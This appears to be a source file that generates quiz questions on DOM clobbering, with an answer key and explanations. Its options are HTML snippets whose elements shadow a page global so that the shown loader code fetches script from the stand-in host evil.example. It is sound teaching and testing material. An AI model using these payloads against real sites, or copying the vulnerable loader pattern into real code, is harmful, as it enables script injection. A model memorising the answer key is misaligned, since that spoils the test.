import { template } from '../../../tasks/template'
import { drawnUntil } from '../../draws'

const EVIL = 'https://evil.example'
const OFFERED = 5
/** Properties that are read; null where the global itself is used as text. */
const PROPERTIES = ['url', 'href', 'src', 'action', 'value', null] as const
type Property = (typeof PROPERTIES)[number]

interface Snippet {
  html(name: string, property: string): string
  /** For which reads the attacker's address comes out. */
  works: readonly Property[]
}
const NAMED = ['url', 'href', 'src', 'action', 'value'] as const
const SNIPPETS: readonly Snippet[] = [
  { html: (name) => `<a id="${name}" href="${EVIL}"></a>`, works: ['href', null] },
  { html: (name) => `<area id="${name}" href="${EVIL}">`, works: ['href', null] },
  {
    html: (name, property) => `<a id="${name}"></a><a id="${name}" name="${property}" href="${EVIL}"></a>`,
    works: NAMED,
  },
  {
    html: (name, property) =>
      `<iframe name="${name}" srcdoc='<a id="${property}" href="${EVIL}"></a>'></iframe>`,
    works: NAMED,
  },
  { html: (name) => `<form id="${name}" action="${EVIL}"></form>`, works: ['action'] },
  { html: (name) => `<img id="${name}" src="${EVIL}">`, works: ['src'] },
  { html: (name) => `<img name="${name}" src="${EVIL}">`, works: ['src'] },
  { html: (name) => `<input id="${name}" value="${EVIL}">`, works: ['value'] },
  {
    html: (name, property) => `<form id="${name}"><input name="${property}" value="${EVIL}"></form>`,
    works: [],
  },
  { html: (name, property) => `<div id="${name}" data-${property}="${EVIL}"></div>`, works: [] },
  { html: (name) => `<a name="${name}" href="${EVIL}"></a>`, works: [] },
  { html: (name) => `<div class="${name}"><a href="${EVIL}"></a></div>`, works: [] },
]

export default template({
  id: 'application-security/web/clobbered-config',
  revision: 1,
  kind: 'multiple',
  topic: 'web',
  grade: 5,
  seconds: 240,
  lang: 'javascript',
  status: 'active',
  idea: 'Elements become globals by id or name; what the code then reads decides whether a text of the attacker comes out.',
  params: (rng) =>
    drawnUntil(
      () => {
        const name = rng.pick(['config', 'settings', 'assets', 'cdn', 'boot', 'env'])
        const property = rng.pick(PROPERTIES)
        const shown = rng.sample(SNIPPETS, OFFERED).map(({ html, works }) => ({
          text: html(name, property ?? 'url'),
          works: works.includes(property),
        }))
        return { name, property, shown }
      },
      ({ shown }) => shown.filter(({ works }) => works).length >= 1 && shown.some(({ works }) => !works),
    ),
  ask: ({ name, property, shown }) => ({
    stem: `A page shows comments as HTML. Its filter removes scripts and event handlers, and keeps all else. After everything has loaded, the code below runs; nothing else sets \`window.${name}\`. Browsers follow the HTML standard. Which comments, each alone on the page, make the script load from \`evil.example\`? Choose all.`,
    code: [
      property === null
        ? `const base = window.${name} || '/static'`
        : `const base = (window.${name} && window.${name}.${property}) || '/static'`,
      "const script = document.createElement('script')",
      "script.src = base + '/app.js'",
      'document.head.append(script)',
    ].join('\n'),
    options: shown.map(({ text }) => text),
  }),
  key: ({ shown }) => ({ kind: 'multiple', right: shown.flatMap(({ works }, i) => (works ? [i] : [])) }),
  why: ({ property }) =>
    property === null
      ? 'Only links turn into their address as text; other elements and collections become [object …].'
      : `An own property \`${property}\` of the element, a second element of a collection, or an element in a named frame gives the address; inputs of a form come out as objects.`,
  source: [
    'WHATWG HTML, 7.2.2.3 Named access on the Window object',
    'WHATWG DOM, 4.2.10.2 HTMLCollection',
    'WHATWG HTML, 4.6.3',
  ],
})
